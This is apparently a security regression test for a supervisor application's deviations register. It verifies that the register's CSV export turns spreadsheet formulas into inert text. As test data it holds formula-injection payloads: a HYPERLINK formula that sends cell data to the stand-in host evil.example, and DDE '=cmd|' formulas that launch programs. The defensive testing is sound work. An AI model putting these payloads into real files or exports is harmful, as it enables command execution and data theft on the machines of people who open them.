/**
 * Attack (issue #17, item 7): CSV formula injection. A technician (or anyone who gets
 * text into a deviation) writes `=HYPERLINK(…)`, `=cmd|…`, `@SUM(…)`, `+…`, `-…` or a
 * tab/CR-led formula into a deviation's title and comments; the auditor opens the
 * register's CSV export in a spreadsheet, which would run it. On the old code those
 * cells came out of `GET /api/deviations/export?format=csv` unchanged. Now every such
 * cell starts with `'` (text in every spreadsheet program), the same rule as the UI's
 * own CSV export (supervisor/src/core/spreadsheetCell.ts), while plain numbers stay
 * numbers.
 */
import t from 'tap';
import { startSupervisor, writeSimConfig } from '../helpers/supervisorProcess.js';
import { parseCsvRows as parseCsv } from '../helpers/csv.js';
import { scratchDir } from '../helpers/util.js';

/** What a spreadsheet program would treat as a formula (after stripping a leading tab/CR). */
const RUNS_AS_FORMULA = /^[\t\r]*[=+\-@]/;

t.test('formulas in the deviations register come out of the CSV export as text', async (t) => {
  const { dir, cleanup } = await scratchDir('sec-csv');
  t.teardown(cleanup);
  const { file, port } = await writeSimConfig(dir);
  const sup = await startSupervisor(file, port);
  t.teardown(() => sup.kill());

  const payloads = {
    title: '=HYPERLINK("http://evil.example/?d="&A1,"Klikk her")',
    ack: "=cmd|' /C calc'!A0",
    close: "@SUM(1+1)*cmd|' /C calc'!A0",
  };
  const opened = await sup.api<{ deviation: { id: number } }>('POST', '/api/deviations', { title: payloads.title, subsystem: '+1+1' });
  t.equal(opened.status, 201, 'deviation opened with a formula as title');
  const id = opened.json.deviation.id;
  t.equal((await sup.api('POST', `/api/deviations/${id}/ack`, { comment: payloads.ack })).status, 200, 'acknowledged with a formula');
  t.equal((await sup.api('POST', `/api/deviations/${id}/close`, { comment: payloads.close })).status, 200, 'closed with a formula');
  // A second one with a leading minus (tab- and CR-led cells are trimmed by the API; the rule covers them too).
  const second = await sup.api<{ deviation: { id: number } }>('POST', '/api/deviations', { title: "-2+3+cmd|' /C notepad'!A0", subsystem: 'x' });
  t.equal(second.status, 201);

  const res = await fetch(`${sup.url}/api/deviations/export?format=csv`, { headers: { authorization: `Bearer ${sup.token()}` } });
  t.equal(res.status, 200);
  t.match(res.headers.get('content-type') ?? '', /text\/csv/);
  const rows = parseCsv(await res.text());
  const header = rows[0] ?? [];
  const col = (name: string) => header.indexOf(name);
  const ours = rows.slice(1).filter((r) => [id, second.json.deviation.id].map(String).includes(r[col('id')] ?? ''));
  t.equal(ours.length, 2, 'both deviations exported');

  const cells = ours.flat();
  const live = cells.filter((c) => RUNS_AS_FORMULA.test(c));
  t.same(live, [], 'no cell would run as a formula');
  const first = ours.find((r) => r[col('id')] === String(id)) as string[];
  t.equal(first[col('title_en')], `'${payloads.title}`, 'HYPERLINK title kept, as text');
  t.equal(first[col('subsystem')], "'+1+1", 'a leading + defused');
  t.equal(first[col('acknowledge_comment')], `'${payloads.ack}`, '=cmd| comment kept, as text');
  t.equal(first[col('close_comment')], `'${payloads.close}`, '@SUM comment kept, as text');
  const other = ours.find((r) => r[col('id')] === String(second.json.deviation.id)) as string[];
  t.equal(other[col('title_en')], "'-2+3+cmd|' /C notepad'!A0", 'a leading - defused');
  t.equal(first[col('id')], String(id), 'numbers stay numbers');
  t.equal(first[col('occurrences')], '1', 'counts stay numbers');
});
